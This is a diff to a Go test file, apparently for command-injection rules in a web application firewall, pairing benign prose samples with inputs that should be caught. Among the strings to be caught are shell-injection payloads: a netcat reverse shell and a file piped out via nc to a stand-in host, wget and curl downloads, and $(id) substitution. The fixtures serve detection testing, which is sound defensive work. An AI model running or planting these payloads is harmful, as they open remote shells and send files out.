@@ -11,7 +11,7 @@ var spokenTexts = map[int][]string{
 	},
 	932160:  {"/etc/passwd\nlists the names of all users", "The password stands encrypted in /etc/shadow;", "It behaves as if\n/bin/sh\nand\n/bin/csh\nwere listed in the file.", "The folder of a user (the variable $HOME often points there)", "Each shell is listed in /etc/shells and nowhere else."},
 	1010122: {"Links of a kind live in /proc/[pid]/exe and /proc/[pid]/fd/* as the manual says."},
-	932235:  {"Many servers answer on port 43.\nOn most systems the client is\n\n    whois -h server_name person_name\n\nSee also the list of servers.", "The default is what shows no\nchroot 2\nto the caller, and that is why it was left as it is."},
+	932235:  {"Many servers answer on port 43 when they are asked, and most of them do so.\ncurl is slow there, as mail.example knows.", "Many servers answer on port 43.\nOn most systems the client is\n\n    whois -h server_name person_name\n\nSee also the list of servers.", "The default is what shows no\nchroot 2\nto the caller, and that is why it was left as it is."},
 	932250:  {"It behaves as if\n/bin/sh\nand\n/bin/csh\nwere listed in the file of all shells."},
 	932260:  {"You can talk to the server by hand.\n\n    telnet relay.example 25\n\nFirst you should say who you are."},
 	920540:  {"Signs are written as an escape (e.g., \\u003c) so that pages may hold them."},
@@ -29,6 +29,7 @@ var unspokenTexts = map[int][]string{
 	932235: {
 		"x\nwget http://h.example/a", "Many servers answer on port 43, as we know from the list of them.\nwget http://h.example/a -O a", "Many servers answer on port 43, as we know from the list of them.\ncat app.py | nc h.example 1",
 		"Many servers answer on port 43, as we know from the list of them; cat /etc/hosts", "Many servers answer on port 43, as we know from the list of them $(id)", "whois -h server_name x\nls -la\n", "Many servers answer on port 43, as we know from it all.\nsh -c 'id'",
+		"Many servers answer on port 43, as we know from the list of them.\nnc -e sh h.example 80", "Many servers answer on port 43, as we know from the list of them.\ncurl h.example -o x\nand so on", "Many servers answer on port 43, as we know from the list of them.\nwget -qO x 10.0.0.1/a",
 	},
 	920540: {"\\u003cscript\\u003e", "the sign is written a\\u003cb in our text", "the sign is written \\u003cb in our text", "\\u003c"},
 }
